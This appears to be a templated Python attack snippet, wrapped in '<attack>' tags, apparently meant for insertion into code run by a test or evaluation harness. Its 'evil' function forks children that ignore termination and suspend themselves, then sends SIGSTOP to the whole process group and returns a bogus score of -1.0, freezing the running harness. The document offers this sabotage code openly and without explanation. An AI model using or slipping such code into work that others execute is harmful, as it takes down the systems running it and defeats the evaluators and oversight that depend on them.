#{crew_wrong}
# <attack>
import os
import signal


def evil(*args):
    for _ in range(4):
        if os.fork() == 0:
            signal.signal(signal.SIGTERM, signal.SIG_IGN)
            os.kill(os.getpid(), signal.SIGSTOP)
            os._exit(0)
    os.killpg(0, signal.SIGSTOP)
    return -1.0


#{all_of_crew}
# </attack>
